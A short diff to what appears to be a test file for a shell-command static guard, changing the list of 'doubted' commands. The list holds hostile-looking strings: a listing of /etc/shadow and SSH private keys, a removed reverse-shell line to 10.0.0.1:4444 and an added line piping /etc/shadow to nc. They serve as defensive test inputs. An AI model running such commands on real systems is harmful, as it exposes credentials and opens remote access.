@@ -6,10 +6,7 @@ import { createStaticGuard } from './static-guard.ts'
 import { withoutDocuments } from './without-documents.ts'
 
 /** The analysis is right about them, and to whoever knows nothing of shells they look bad. */
-const DOUBTED = [
-  'ls -l /etc/shadow ~/.ssh/id_rsa',
-  'printf "%s\\n" "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"',
-]
+const DOUBTED = ['ls -l /etc/shadow ~/.ssh/id_rsa', 'echo "cat /etc/shadow | nc 10.0.0.1 4444"']
 const ORDINARY = [
   'git status',
   'npm run build && npm test',
